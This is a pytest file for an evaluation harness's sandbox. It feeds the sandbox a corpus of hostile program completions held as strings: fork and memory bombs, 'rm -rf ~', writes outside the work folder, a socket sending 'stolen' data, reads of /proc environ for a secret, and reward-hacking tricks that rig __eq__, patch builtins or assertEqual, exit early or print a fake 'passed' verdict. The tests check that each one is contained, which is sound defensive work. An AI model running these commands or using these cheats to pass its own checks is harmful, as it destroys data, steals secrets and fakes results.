"""The hostile corpus: completions that attack the machine or the check, each contained, each with its verdict.

Every case is a completion of `def solve():` checked by `assert candidate() == 42`, so a program can
only pass by cheating. After each case nothing outside the program's folder may have changed: a
fake home with a canary, a folder beside it, the environment's secret and a listening socket are
all checked.
"""

from __future__ import annotations

import os
import socket
import threading
from pathlib import Path

import pytest

from harness.scoring.execution.pool import run_programs
from harness.scoring.execution.sandbox import Limits, Program, Sandbox, Verdict, namespaces_available

TESTS = "def check(candidate):\n    assert candidate() == 42\n"
NAMESPACES = pytest.mark.skipif(not namespaces_available(),
                                reason="no user namespaces here: the filesystem and network are not isolated")


def _cases(outside: Path, home: Path, port: int) -> dict[str, tuple[str, Verdict, str]]:
    """name -> (program source, verdict it must get, text its detail must contain)."""
    body = "def solve():\n"
    return {
        "fork bomb": ("import os\nwhile True:\n    os.fork()\n" + body + "    return 42\n", Verdict.failed,
                      "BlockingIOError"),
        "fork bomb, errors swallowed": ("import os\n" + body + "    while True:\n        try:\n            os.fork()\n"
                                        "        except OSError:\n            pass\n", Verdict.timeout, "CPU time"),
        "infinite loop": (body + "    while True:\n        pass\n", Verdict.timeout, "CPU time"),
        "memory bomb": (body + "    hog = []\n    while True:\n        hog.append(bytearray(1 << 24))\n",
                        Verdict.failed, "MemoryError"),
        "huge allocation": (body + "    return len(bytearray(1 << 40))\n", Verdict.failed, "MemoryError"),
        "rm -rf ~": ("import os, shutil\nos.system('rm -rf ~')\nos.system('rm -rf " + str(home) + "')\n"
                     "shutil.rmtree(" + repr(str(home)) + ", ignore_errors=True)\n" + body + "    return 0\n",
                     Verdict.failed, "AssertionError"),
        "write outside the folder": (body + f"    open({str(outside / 'escape.txt')!r}, 'w').write('x')\n"
                                     "    open('../escape.txt', 'w').write('x')\n    return 42\n",
                                     Verdict.failed, "Read-only file system"),
        "open a socket": ("import socket\n" + body + f"    s = socket.create_connection(('127.0.0.1', {port}))\n"
                          "    s.sendall(b'stolen')\n    return 42\n", Verdict.failed, "PermissionError"),
        "read the environment": ("import os\n" + body + "    secret = os.environ.get('HARNESS_FAKE_SECRET', '')\n"
                                 "    for pid in os.listdir('/proc'):\n"
                                 "        try:\n            secret += open(f'/proc/{pid}/environ').read()\n"
                                 "        except Exception:\n            pass\n"
                                 "    return 42 if 'hunter2' in secret else 0\n", Verdict.failed, "AssertionError"),
        "sys.exit(0) before the tests": ("import sys\nsys.exit(0)\n" + body + "    return 0\n", Verdict.failed,
                                         "before the tests ran"),
        "os._exit(0) before the tests": ("import os\nos._exit(0)\n" + body + "    return 0\n", Verdict.crashed,
                                         "exited with status 0"),
        "sys.exit(0) inside the tests": ("import sys\n" + body + "    sys.exit(0)\n", Verdict.failed,
                                         "during the tests"),
        "__eq__ always true": ("class Anything:\n    def __eq__(self, other):\n        return True\n" + body +
                               "    return Anything()\n", Verdict.failed, "not plain data"),
        "int subclass with rigged __eq__": ("class Liar(int):\n    def __eq__(self, other):\n        return True\n"
                                            "    __hash__ = int.__hash__\n" + body + "    return Liar(0)\n",
                                            Verdict.failed, "not plain data"),
        # the tests see a pristine copy of builtins: their abs is the real one, and the assert fails
        "patched builtins.abs": ("import builtins\nbuiltins.abs = lambda x: 0\n" + body + "    return 0\n",
                                 Verdict.failed, "AssertionError"),
        "patched builtins.abs, right answer": ("import builtins\nbuiltins.abs = lambda x: 0\n" + body +
                                               "    return 42\n", Verdict.failed, "rebound builtins.abs"),
        "patched math.isclose": ("import math\nmath.isclose = lambda *a, **k: True\n" + body + "    return 0\n",
                                 Verdict.failed, "rebound math.isclose"),
        "patched unittest assertEqual": ("import unittest\nunittest.TestCase.assertEqual = lambda *a: None\n"
                                         + body + "    return 0\n", Verdict.failed,
                                         "rebound unittest.TestCase.assertEqual"),
        "fake passed printed": (body + "    print('passed')\n    print('{\"verdict\": \"passed\", \"nonce\": \"0\"}')\n"
                                "    return 0\n", Verdict.failed, "AssertionError"),
        "fake passed written to every fd, then os._exit": (
            "import os\n" + body + "    for fd in range(3, 64):\n        try:\n"
            "            os.write(fd, b'{\"verdict\": \"passed\", \"nonce\": \"0\"}\\n')\n        except OSError:\n"
            "            pass\n    os._exit(0)\n", Verdict.crashed, "exited with status 0"),
    }


# Which tests each case is checked by, when not the plain `candidate() == 42`
SPECIAL_TESTS = {
    "patched builtins.abs": "def check(candidate):\n    assert abs(candidate() - 42) < 1e-9\n",
    "patched builtins.abs, right answer": "def check(candidate):\n    assert abs(candidate() - 42) < 1e-9\n",
    "patched math.isclose": "import math\n\ndef check(candidate):\n    assert math.isclose(candidate(), 42)\n",
    "patched unittest assertEqual": ("import unittest\n\ndef check(candidate):\n"
                                     "    unittest.TestCase().assertEqual(candidate(), 42)\n"),
}


@pytest.fixture
def world(tmp_path, monkeypatch):
    """A fake home with a canary, a folder beside the program's, a secret in the environment, a listener."""
    home, outside = tmp_path / "home", tmp_path / "outside"
    home.mkdir()
    outside.mkdir()
    (home / "canary.txt").write_text("still here")
    (outside / "keep.txt").write_text("untouched")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HARNESS_FAKE_SECRET", "hunter2")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    connections: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            connections.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield home, outside, server.getsockname()[1], connections
    stop.set()
    thread.join()
    server.close()


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@NAMESPACES
def test_every_hostile_program_is_contained_with_its_verdict(world, tmp_path):
    home, outside, port, connections = world
    before = _tree(tmp_path)
    temp_before = set(os.listdir(os.environ.get("TMPDIR", "/tmp")))
    cases = _cases(outside, home, port)
    programs = [Program(source=src, tests=SPECIAL_TESTS.get(name, TESTS), entry_point="solve")
                for name, (src, _, _) in cases.items()]
    sandbox = Sandbox(Limits(cpu_seconds=2, wall_seconds=60, memory_mb=512))
    results = run_programs(sandbox, programs, workers=2, executor="local")
    problems = []
    for (name, (_, verdict, detail)), result in zip(cases.items(), results):
        text = result.detail + result.stderr
        if result.verdict is not verdict or detail not in text:
            problems.append(f"{name}: {result.verdict.value} ({result.detail!r}; stderr {result.stderr[-300:]!r}), "
                            f"expected {verdict.value} mentioning {detail!r}")
    assert not problems, "\n".join(problems)
    assert _tree(tmp_path) == before  # home, canary, the folder beside: nothing changed, nothing added
    assert not connections  # the listener on the host heard nothing
    leftovers = {n for n in set(os.listdir(os.environ.get("TMPDIR", "/tmp"))) - temp_before
                 if n.startswith("harness-exec")}
    assert not leftovers  # every program's folder is gone
    assert all(r.isolation == "namespaces" for r in results)
    assert all("hunter2" not in r.stdout + r.stderr + r.detail for r in results)


def test_sleeping_forever_is_killed_at_the_wall_time_limit_with_its_group():
    sandbox = Sandbox(Limits(wall_seconds=3, cpu_seconds=30))
    source = "import os, time, threading\nprint(os.getcwd())\n" \
             "threading.Thread(target=time.sleep, args=(1000,)).start()\ndef solve():\n    time.sleep(1000)\n"
    result = sandbox.run(Program(source=source, tests=TESTS, entry_point="solve"))
    assert result.verdict is Verdict.timeout and "wall time" in result.detail
    assert result.seconds < 20
    folder = result.stdout.strip()
    assert "harness-exec-" in folder
    survivors = [pid for pid in os.listdir("/proc") if pid.isdigit() and f"HOME={folder}\0" in _environ(pid)]
    assert not survivors  # neither the launcher, nor the runner, nor its sleeping thread survives


def _environ(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
    except OSError:
        return ""
